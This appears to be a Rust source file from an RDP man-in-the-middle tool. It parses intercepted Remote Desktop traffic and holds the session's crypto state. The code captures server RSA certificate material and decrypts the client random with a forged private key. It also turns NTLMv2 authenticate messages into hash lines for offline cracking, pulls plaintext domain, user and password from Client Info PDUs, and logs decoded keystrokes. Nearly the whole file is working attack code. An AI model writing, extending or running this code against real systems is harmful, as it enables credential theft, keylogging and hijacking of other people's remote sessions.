//! Pattern-matched field extractors.
//!
//! Each extractor looks for a byte-level signature in a (possibly just
//! RC4-decrypted) frame, and on a match either returns a human-readable
//! finding line, mutates the session's [`CryptoContext`]/[`CapturedArtifacts`],
//! or both. None of these ever panic on malformed input — a parse failure
//! is `Ok(None)` or a swallowed `Err`, never a crash, since the bytes come
//! from the wire.

use rdp_mitm_crypto::rsa::{self, PublicKey};
use rdp_mitm_crypto::ts_key::TerminalServicesKey;

use crate::errors::ExtractError;
use crate::scan::{find_first, find_last};
use crate::scancode;
use crate::session::{KeyboardInfo, Session};

const RSA1_MARKER: &[u8] = b"RSA1";
const NTLMSSP_TYPE2: &[u8] = b"NTLMSSP\x00\x02\x00\x00\x00";
const NTLMSSP_TYPE3: &[u8] = b"NTLMSSP\x00\x03\x00\x00\x00";
/// GCC `SC_SECURITY` header type, little-endian (`0x0c02`).
const SC_SECURITY_MARKER: &[u8] = &[0x02, 0x0c];

fn read_u16_le(b: &[u8], at: usize) -> Result<u16, ExtractError> {
    let s = b.get(at..at + 2).ok_or(ExtractError::Truncated { needed: at + 2, got: b.len() })?;
    Ok(u16::from_le_bytes([s[0], s[1]]))
}

fn read_u32_le(b: &[u8], at: usize) -> Result<u32, ExtractError> {
    let s = b.get(at..at + 4).ok_or(ExtractError::Truncated { needed: at + 4, got: b.len() })?;
    Ok(u32::from_le_bytes([s[0], s[1], s[2], s[3]]))
}

fn slice_at<'a>(b: &'a [u8], at: usize, len: usize) -> Result<&'a [u8], ExtractError> {
    b.get(at..at + len).ok_or(ExtractError::Truncated { needed: at + len, got: b.len() })
}

/// Parse the GCC Server Security Data / Proprietary Certificate and store
/// the server's crypto material on `session`. Returns a finding line
/// summarizing what was captured.
pub fn extract_server_cert(bytes: &[u8], session: &mut Session) -> Result<Option<String>, ExtractError> {
    let marker = find_last(bytes, SC_SECURITY_MARKER).ok_or(ExtractError::NoServerCertMarker)?;
    let offset = marker + SC_SECURITY_MARKER.len();

    let encryption_method = read_u32_le(bytes, offset + 2)?;
    let encryption_level = read_u32_le(bytes, offset + 6)?;
    let server_random_len = read_u32_le(bytes, offset + 10)? as usize;
    let server_cert_len = read_u32_le(bytes, offset + 14)? as usize;
    let _ = (encryption_method, encryption_level);

    let server_random = slice_at(bytes, offset + 18, server_random_len)?;
    let cert = slice_at(bytes, offset + 18 + server_random_len, server_cert_len)?;

    let dw_version = read_u32_le(cert, 0)?;
    let dw_sig_alg = read_u32_le(cert, 4)?;
    let dw_key_alg = read_u32_le(cert, 8)?;
    let pubkey_type = read_u16_le(cert, 12)?;
    let pubkey_len = read_u16_le(cert, 14)? as usize;
    let pubkey_blob = slice_at(cert, 16, pubkey_len)?;

    if pubkey_blob.len() < RSA1_MARKER.len() {
        return Err(ExtractError::NoPublicKeyBlobMarker);
    }
    if &pubkey_blob[..4] != RSA1_MARKER {
        let mut got = [0u8; 4];
        got.copy_from_slice(&pubkey_blob[..4]);
        return Err(ExtractError::BadPublicKeyMarker(got));
    }

    let sign_type = read_u16_le(cert, 16 + pubkey_len)?;
    let sign_len = read_u16_le(cert, 18 + pubkey_len)? as usize;
    let sign = slice_at(cert, 20 + pubkey_len, sign_len)?;
    let _ = sign_type;

    let key_len = read_u32_le(pubkey_blob, 4)?;
    let bit_len = read_u32_le(pubkey_blob, 8)?;
    if bit_len != key_len * 8 - 64 {
        return Err(ExtractError::BadBitLenInvariant { bit_len, key_len });
    }
    let data_len = read_u32_le(pubkey_blob, 12)?;
    let pub_exponent = read_u32_le(pubkey_blob, 16)?;
    let modulus = slice_at(pubkey_blob, 20, key_len as usize)?;

    let mut first5fields = Vec::with_capacity(16);
    first5fields.extend_from_slice(&dw_version.to_le_bytes());
    first5fields.extend_from_slice(&dw_sig_alg.to_le_bytes());
    first5fields.extend_from_slice(&dw_key_alg.to_le_bytes());
    first5fields.extend_from_slice(&pubkey_type.to_le_bytes());
    first5fields.extend_from_slice(&(pubkey_len as u16).to_le_bytes());

    session.crypto.server_random = server_random.to_vec();
    session.crypto.server_modulus = modulus.to_vec();
    session.crypto.server_pub_exponent = pub_exponent;
    session.crypto.server_data_len = data_len;
    session.crypto.server_sign = sign.to_vec();
    session.crypto.server_first5fields = first5fields;
    session.crypto.server_pubkey_blob = pubkey_blob.to_vec();
    session.crypto.server_public_key = Some(PublicKey {
        modulus: num_bigint::BigUint::from_bytes_le(modulus),
        exponent: num_bigint::BigUint::from(pub_exponent),
        modulus_bytes: key_len as usize - 8,
    });

    Ok(Some(format!(
        "Server cert modulus: {}\nSignature: {}\nServer random: {}",
        hex::encode(modulus),
        hex::encode(sign),
        hex::encode(server_random),
    )))
}

/// Recover the RSA-encrypted client random once a forged key exists to
/// decrypt it with. Gated on `CryptoContext` state to cut down on the false
/// positives the raw length-matching heuristic below is prone to: it only
/// runs once a server certificate has been observed and before a client
/// random has already been recovered this session.
pub fn extract_client_random(bytes: &[u8], session: &mut Session) -> Option<String> {
    if session.crypto.has_client_rand() || !session.crypto.has_server_cert() {
        return None;
    }
    let forged = session.crypto.forged_key.as_ref()?;

    for i in 7..bytes.len().saturating_sub(4) {
        let Ok(len) = read_u32_le(bytes, i) else { continue };
        if len as usize == bytes.len() - i - 4 {
            let ciphertext = &bytes[i + 4..];
            let plain = rsa::decrypt(
                ciphertext,
                &forged.private_exponent,
                &forged.public.modulus,
                forged.public.modulus_bytes,
            );
            session.crypto.enc_client_rand = ciphertext.to_vec();
            session.crypto.client_rand = plain.clone();
            session.establish();
            return Some(format!("Client random: {}", hex::encode(&plain)));
        }
    }
    None
}

/// Capture the 8-byte server challenge out of an NTLMSSP Type 2 message.
pub fn extract_server_challenge(bytes: &[u8], session: &mut Session) -> Option<String> {
    let pos = find_first(bytes, NTLMSSP_TYPE2)?;
    let offset = pos + NTLMSSP_TYPE2.len() + 12;
    let challenge = bytes.get(offset..offset + 8)?;
    let mut buf = [0u8; 8];
    buf.copy_from_slice(challenge);
    session.captured.server_challenge = Some(buf);
    Some(format!("Server challenge: {}", hex::encode(buf)))
}

struct SecurityBuffer {
    len: u16,
    offset: u32,
}

fn read_security_buffer(b: &[u8], at: usize) -> Result<SecurityBuffer, ExtractError> {
    let len = read_u16_le(b, at)?;
    let offset = read_u32_le(b, at + 4)?;
    Ok(SecurityBuffer { len, offset })
}

/// Parse an NTLMSSP Type 3 (authenticate) message into the `user::domain:
/// challenge:nt_response:blob` line used for offline cracking, and stash
/// `nt_response`'s first 16 bytes for the tamper engine.
pub fn extract_ntlmv2(bytes: &[u8], session: &mut Session) -> Result<Option<String>, ExtractError> {
    let Some(pos) = find_first(bytes, NTLMSSP_TYPE3) else { return Ok(None) };
    let offset = pos + NTLMSSP_TYPE3.len();

    let lm = read_security_buffer(bytes, offset)?;
    let nt = read_security_buffer(bytes, offset + 8)?;
    let domain = read_security_buffer(bytes, offset + 16)?;
    let user = read_security_buffer(bytes, offset + 24)?;
    let _workstation = read_security_buffer(bytes, offset + 32)?;
    let _encryption_key = read_security_buffer(bytes, offset + 40)?;
    let _ = lm;

    let field = |buf: &SecurityBuffer| -> Result<&[u8], ExtractError> {
        let start = (offset as isize - 12 + buf.offset as isize) as usize;
        slice_at(bytes, start, buf.len as usize)
    };

    let nt_bytes = field(&nt)?;
    if nt_bytes.len() < 16 {
        return Err(ExtractError::Truncated { needed: 16, got: nt_bytes.len() });
    }
    let mut nt_response = [0u8; 16];
    nt_response.copy_from_slice(&nt_bytes[..16]);
    let jtr_blob = &nt_bytes[16..];

    let user_bytes = field(&user)?;
    let domain_bytes = field(&domain)?;
    let user_str = decode_utf16le(user_bytes)?;
    let domain_str = decode_utf16le(domain_bytes)?;

    session.captured.nt_response = Some(nt_response);

    let challenge_hex = session
        .captured
        .server_challenge
        .map(hex::encode)
        .unwrap_or_else(|| "SERVER_CHALLENGE_MISSING".to_string());

    Ok(Some(format!(
        "{user_str}::{domain_str}:{challenge_hex}:{}:{}",
        hex::encode(nt_response),
        hex::encode(jtr_blob),
    )))
}

fn decode_utf16le(b: &[u8]) -> Result<String, ExtractError> {
    if b.len() % 2 != 0 {
        return Err(ExtractError::InvalidUtf16);
    }
    let units: Vec<u16> = b.chunks_exact(2).map(|c| u16::from_le_bytes([c[0], c[1]])).collect();
    String::from_utf16(&units).map_err(|_| ExtractError::InvalidUtf16)
}

/// Extract the plaintext Client Info PDU credentials (bit `0x0040` set in
/// the flags field at byte offset 15).
pub fn extract_client_info(bytes: &[u8]) -> Result<Option<String>, ExtractError> {
    const FLAGS_OFFSET: usize = 15;
    const INFO_FLAG: u8 = 0x40;
    const STRINGS_OFFSET: usize = 37;

    if bytes.len() <= 32 || bytes[FLAGS_OFFSET] != INFO_FLAG {
        return Ok(None);
    }

    let domlen = u16::from_be_bytes([bytes[26], bytes[27]]) as usize;
    let userlen = u16::from_be_bytes([bytes[28], bytes[29]]) as usize;
    let pwlen = u16::from_be_bytes([bytes[30], bytes[31]]) as usize;

    if domlen + userlen + pwlen >= bytes.len() {
        return Ok(None);
    }

    let domain = slice_at(bytes, STRINGS_OFFSET, domlen)?;
    let user = slice_at(bytes, STRINGS_OFFSET + domlen + 2, userlen)?;
    let pw = slice_at(bytes, STRINGS_OFFSET + domlen + 2 + userlen + 2, pwlen)?;

    let domain = decode_utf16le(domain)?;
    let user = decode_utf16le(user)?;
    let pw = decode_utf16le(pw)?;

    Ok(Some(format!("{domain}\\{user}:{pw}")))
}

/// Extract keyboard layout/type/subtype/funckey. Never aborts the session
/// on a bad match — the offset formula is a heuristic carried over
/// verbatim, see the design notes.
pub fn extract_keyboard_layout(bytes: &[u8]) -> Option<KeyboardInfo> {
    const MARKER: [u8; 2] = [0x0d, 0x00];
    const GAP: usize = 82;

    let mut start = 0usize;
    while let Some(rel) = find_first(&bytes[start..], &MARKER) {
        let marker_pos = start + rel;
        let len_pos = marker_pos + 2;
        let Ok(length) = read_u16_le(bytes, len_pos) else { break };
        let match_end = len_pos + 2 + GAP + 2;
        if match_end <= bytes.len() && bytes[match_end - 2] == 0 && bytes[match_end - 1] == 0 {
            let offset = match_end as isize - length as isize + 8;
            if offset >= 0 {
                let offset = offset as usize;
                if let (Ok(layout), Ok(kind), Ok(subtype), Ok(funckey)) = (
                    read_u32_le(bytes, offset),
                    read_u32_le(bytes, offset + 4),
                    read_u32_le(bytes, offset + 8),
                    read_u32_le(bytes, offset + 12),
                ) {
                    return Some(KeyboardInfo { layout, kind, subtype, funckey });
                }
            }
        }
        start = marker_pos + 1;
    }
    None
}

/// Decode Fast-Path keyboard input, recursing on packed chord prefixes.
pub fn extract_key_press(bytes: &[u8]) -> Option<String> {
    if bytes.len() < 4 {
        return None;
    }
    let event = bytes[bytes.len() - 2];
    let key = bytes[bytes.len() - 1];
    let name = scancode::name(key)?;

    let mut lines = Vec::new();
    if event % 2 == 0 {
        lines.push(format!("Key press:   {name}"));
    } else {
        lines.push(format!("Key release:                 {name}"));
    }

    if event > 1 {
        let mut prefix = vec![0x44u8, (bytes.len() - 2) as u8];
        prefix.extend_from_slice(&bytes[2..bytes.len() - 2]);
        if let Some(sub) = extract_key_press(&prefix) {
            lines.push(sub);
        }
    }

    Some(lines.join("\n"))
}

/// Byte-signature check for "server enforces NLA" — anchored to the *end*
/// of the buffer (a suffix check, not a substring search) to avoid
/// false-positives on frames that merely contain this sequence in the
/// middle.
pub fn server_enforces_nla(bytes: &[u8]) -> bool {
    const SUFFIX: [u8; 11] = [0x00, 0x03, 0x00, 0x08, 0x00, 0x05, 0x00, 0x00, 0x00, 0x00, 0x00];
    bytes.len() >= 2 + SUFFIX.len()
        && bytes[0] == 0x03
        && bytes[1] == 0x00
        && bytes.ends_with(&SUFFIX)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn keyboard_layout_requires_full_window() {
        assert_eq!(extract_keyboard_layout(&[0x0d, 0x00]), None);
    }

    #[test]
    fn key_press_and_release() {
        assert_eq!(extract_key_press(&[0x44, 0x04, 0x00, 0x1f]).as_deref(), Some("Key press:   S"));
        assert_eq!(
            extract_key_press(&[0x44, 0x04, 0x01, 0x1f]).as_deref(),
            Some("Key release:                 S")
        );
    }

    #[test]
    fn nla_suffix_check_ignores_middle_matches() {
        let mut buf = vec![0x03, 0x00];
        buf.extend_from_slice(&[0x00, 0x03, 0x00, 0x08, 0x00, 0x05, 0x00, 0x00, 0x00, 0x00, 0x00]);
        buf.extend_from_slice(b"trailing junk");
        assert!(!server_enforces_nla(&buf));

        let exact = vec![
            0x03, 0x00, 0x00, 0x03, 0x00, 0x08, 0x00, 0x05, 0x00, 0x00, 0x00, 0x00, 0x00,
        ];
        assert!(server_enforces_nla(&exact));
    }

    #[test]
    fn client_info_rejects_short_frame() {
        assert_eq!(extract_client_info(&[0u8; 10]).unwrap(), None);
    }
}
